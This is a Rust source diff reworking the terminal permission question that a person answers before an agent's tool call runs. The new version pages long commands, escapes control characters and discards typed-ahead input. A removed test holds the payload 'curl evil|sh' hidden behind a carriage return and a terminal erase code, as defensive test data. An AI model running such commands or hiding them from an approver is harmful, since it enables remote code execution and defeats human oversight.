@@ -1,22 +1,36 @@
 //! The permission question at a terminal: what a person is shown before a tool call
 //! with effects runs, and how their answer is read.
+//!
+//! The question hides nothing: every line of the command or change is shown (a
+//! long one in pages; the answer is asked only after the last page), its number of
+//! lines is said, and every line is shown with [`visible`] as a [`Shown::Line`].
+//! Before each page's prompt, input typed ahead is discarded (`keyboard`), so no
+//! keystroke made before a page was on screen can answer it. What the request
+//! says (the command, the resolved path, `replace_all`) is built by
+//! [`crate::tools::permissions::summarize`].
 
-use std::io::{BufRead, Write};
+use std::io::Write;
+use std::os::fd::OwnedFd;
 
 use futures::future::BoxFuture;
 
+use super::escape::{Shown, visible};
+use super::keyboard::Keyboard;
 use crate::tools::permissions::{Answer, Approver, PermissionRequest};
 
+/// Lines per page when the terminal does not say its height.
+const PAGE_LINES: usize = 40;
+
+/// Rows of a page that are not the request's lines: the blank line and the header
+/// above, the prompt below, and one for the line the person types.
+const PAGE_CHROME: usize = 4;
+
 /// Asks on a terminal: the question goes to `out` (stderr), the answer comes from
-/// `input` (stdin), one question at a time however many sessions ask at once.
-///
-/// Answers are read by a thread of their own, never by a task of the runtime: a
-/// question abandoned by a cancel must not keep the process from exiting.
+/// `input` (the terminal's stdin), one question at a time however many sessions
+/// ask at once.
 pub struct TerminalApprover {
     out: std::sync::Mutex<Box<dyn Write + Send>>,
-    answers: tokio::sync::Mutex<tokio::sync::mpsc::UnboundedReceiver<String>>,
-    /// Set when a question was left unanswered (its call was cancelled).
-    abandoned: std::sync::atomic::AtomicBool,
+    keyboard: tokio::sync::Mutex<Keyboard>,
     /// The live progress display, paused while a question waits.
     pause: Option<indicatif::MultiProgress>,
 }
@@ -28,60 +42,119 @@ impl std::fmt::Debug for TerminalApprover {
 }
 
 impl TerminalApprover {
-    /// An approver asking through `out` and reading answers from `input`; `pause`
-    /// is the live progress display to hide while a question waits.
+    /// An approver asking through `out` and reading answers from `input`, which
+    /// must be a terminal (what is typed ahead is discarded from it); `pause` is
+    /// the live progress display to hide while a question waits.
     pub fn new(
         out: Box<dyn Write + Send>,
-        mut input: Box<dyn BufRead + Send>,
+        input: OwnedFd,
         pause: Option<indicatif::MultiProgress>,
     ) -> Self {
-        let (tx, rx) = tokio::sync::mpsc::unbounded_channel();
-        let reader = std::thread::Builder::new()
-            .name("orchestrate-answers".into())
-            .spawn(move || {
-                let mut line = String::new();
-                while matches!(input.read_line(&mut line), Ok(n) if n > 0) {
-                    if tx.send(std::mem::take(&mut line)).is_err() {
-                        return;
-                    }
-                }
-            });
-        if let Err(e) = reader {
-            tracing::error!(error = %e, "cannot read answers from the terminal; every question will be answered no");
-        }
         Self {
             out: std::sync::Mutex::new(out),
-            answers: tokio::sync::Mutex::new(rx),
-            abandoned: std::sync::atomic::AtomicBool::new(false),
+            keyboard: tokio::sync::Mutex::new(Keyboard::new(input)),
             pause,
         }
     }
-}
 
-/// The question as a person sees it.
-pub fn question(request: &PermissionRequest) -> String {
-    let mut detail = String::new();
-    for line in request.summary.split('\n').take(40) {
-        detail.push_str("  ");
-        detail.push_str(&visible(line));
-        detail.push('\n');
+    fn say(&self, text: &str) {
+        let mut out = self
+            .out
+            .lock()
+            .unwrap_or_else(std::sync::PoisonError::into_inner);
+        let _ = out.write_all(text.as_bytes());
+        let _ = out.flush();
     }
-    format!(
-        "\n{} wants to run {}:\n{detail}Allow? [y]es / [n]o / [a]lways for this session: ",
-        request.agent, request.tool
-    )
+
+    /// Shows `request` page by page and reads the answer to its last page.
+    async fn pages(&self, keyboard: &mut Keyboard, request: &PermissionRequest) -> Answer {
+        let per_page = keyboard
+            .rows()
+            .map_or(PAGE_LINES, |rows| rows.saturating_sub(PAGE_CHROME));
+        let pages = question(request, per_page);
+        for (i, page) in pages.iter().enumerate() {
+            self.say(&page.body);
+            keyboard.discard_typed_ahead();
+            self.say(&page.prompt);
+            let Some(line) = keyboard.line().await else {
+                return Answer::No;
+            };
+            if i + 1 == pages.len() {
+                return parse_answer(&line);
+            }
+            if refuses(&line) {
+                return Answer::No;
+            }
+        }
+        Answer::No
+    }
 }
 
-/// The text with every control character shown as an escape, so that a command
-/// cannot hide what it does behind a carriage return or a terminal escape code.
-pub fn visible(text: &str) -> String {
-    text.chars()
-        .map(|c| {
-            if c.is_control() && c != '\t' {
-                c.escape_default().to_string()
-            } else {
-                c.to_string()
+impl Approver for TerminalApprover {
+    fn ask(&self, request: PermissionRequest) -> BoxFuture<'_, Answer> {
+        Box::pin(async move {
+            let mut keyboard = self.keyboard.lock().await;
+            if let Some(display) = &self.pause {
+                display.set_draw_target(indicatif::ProgressDrawTarget::hidden());
             }
+            let answer = self.pages(&mut keyboard, &request).await;
+            if let Some(display) = &self.pause {
+                display.set_draw_target(indicatif::ProgressDrawTarget::stderr());
+            }
+            answer
+        })
+    }
+}
+
+/// One page of a question: its text, then the prompt shown once what was typed
+/// ahead is discarded.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub struct Page {
+    /// The header and the page's lines.
+    pub body: String,
+    /// What the person answers: go on (or refuse), or, on the last page, the
+    /// question itself.
+    pub prompt: String,
+}
+
+/// The question as a person sees it, in pages of at most `per_page` lines of the
+/// request: every line, each escaped as a [`Shown::Line`], and how many there
+/// are. Every page but the last asks to go on; the last asks the question.
+pub fn question(request: &PermissionRequest, per_page: usize) -> Vec<Page> {
+    let mut lines: Vec<&str> = request.summary.split('\n').collect();
+    if lines.len() > 1 && lines.last() == Some(&"") {
+        lines.pop();
+    }
+    let total = lines.len();
+    let chunks: Vec<&[&str]> = lines.chunks(per_page.max(1)).collect();
+    let agent = visible(&request.agent, Shown::Line);
+    let tool = visible(&request.tool, Shown::Line);
+    let mut first = 1;
+    chunks
+        .iter()
+        .enumerate()
+        .map(|(i, chunk)| {
+            let count = match (total, chunks.len()) {
+                (1, _) => String::new(),
+                (_, 1) => format!(" ({total} lines)"),
+                (_, n) => format!(" ({total} lines, page {} of {n})", i + 1),
+            };
+            let mut body = format!("\n{agent} wants to run {tool}{count}:\n");
+            for line in *chunk {
+                body.push_str("  ");
+                body.push_str(&visible(line, Shown::Line));
+                body.push('\n');
+            }
+            let last = first + chunk.len() - 1;
+            let prompt = if i + 1 == chunks.len() {
+                "Allow? [y]es / [n]o / [a]lways for this session: ".to_owned()
+            } else {
+                format!(
+                    "-- lines {first}-{last} of {total}; Enter for the next page, [n]o to refuse: "
+                )
+            };
+            first = last + 1;
+            Page { body, prompt }
         })
         .collect()
 }
@@ -95,98 +168,11 @@ pub fn parse_answer(line: &str) -> Answer {
     }
 }
 
-impl Approver for TerminalApprover {
-    fn ask(&self, request: PermissionRequest) -> BoxFuture<'_, Answer> {
-        Box::pin(async move {
-            use std::sync::atomic::Ordering;
-            let mut answers = self.answers.lock().await;
-            // A line typed for a question that was since abandoned answers nothing.
-            if self.abandoned.swap(false, Ordering::SeqCst) {
-                while answers.try_recv().is_ok() {}
-            }
-            self.abandoned.store(true, Ordering::SeqCst);
-            if let Some(display) = &self.pause {
-                display.set_draw_target(indicatif::ProgressDrawTarget::hidden());
-            }
-            {
-                let mut out = self
-                    .out
-                    .lock()
-                    .unwrap_or_else(std::sync::PoisonError::into_inner);
-                let _ = write!(out, "{}", question(&request));
-                let _ = out.flush();
-            }
-            let answer = match answers.recv().await {
-                Some(line) => parse_answer(&line),
-                None => Answer::No,
-            };
-            self.abandoned.store(false, Ordering::SeqCst);
-            if let Some(display) = &self.pause {
-                display.set_draw_target(indicatif::ProgressDrawTarget::stderr());
-            }
-            answer
-        })
-    }
+/// Whether a line typed at a page that is not the last refuses the call (anything
+/// else shows the next page; nothing but the last page's answer allows it).
+fn refuses(line: &str) -> bool {
+    matches!(line.trim().to_ascii_lowercase().as_str(), "n" | "no")
 }
 
 #[cfg(test)]
-mod tests {
-    use super::*;
-    use crate::protocol::SessionId;
-
-    #[test]
-    fn the_question_names_the_agent_and_shows_the_command() {
-        let request = PermissionRequest {
-            session: SessionId::new(),
-            agent: "coder#2".into(),
-            tool: "Bash".into(),
-            summary: "cargo test --all".into(),
-        };
-        assert_eq!(
-            question(&request),
-            "\ncoder#2 wants to run Bash:\n  cargo test --all\nAllow? [y]es / [n]o / [a]lways for this session: "
-        );
-    }
-
-    #[test]
-    fn a_command_cannot_hide_behind_control_characters() {
-        let request = PermissionRequest {
-            session: SessionId::new(),
-            agent: "main".into(),
-            tool: "Bash".into(),
-            summary: "curl evil|sh #\r\u{1b}[2Kcargo test".into(),
-        };
-        assert!(
-            question(&request).contains("  curl evil|sh #\\r\\u{1b}[2Kcargo test\n"),
-            "{}",
-            question(&request)
-        );
-    }
-
-    #[test]
-    fn answers_are_read_leniently_and_default_to_no() {
-        assert_eq!(parse_answer("Y\n"), Answer::Yes);
-        assert_eq!(parse_answer(" always "), Answer::Always);
-        assert_eq!(parse_answer("\n"), Answer::No);
-        assert_eq!(parse_answer("sure"), Answer::No);
-    }
-
-    #[tokio::test]
-    async fn a_terminal_answer_is_read_back() {
-        let out: Vec<u8> = Vec::new();
-        let approver = TerminalApprover::new(
-            Box::new(out),
-            Box::new(std::io::Cursor::new(b"a\n".to_vec())),
-            None,
-        );
-        let request = PermissionRequest {
-            session: SessionId::new(),
-            agent: "main".into(),
-            tool: "Edit".into(),
-            summary: "src/lib.rs".into(),
-        };
-        assert_eq!(approver.ask(request.clone()).await, Answer::Always);
-        // The input is exhausted: no answer is a no.
-        assert_eq!(approver.ask(request).await, Answer::No);
-    }
-}
+mod tests;
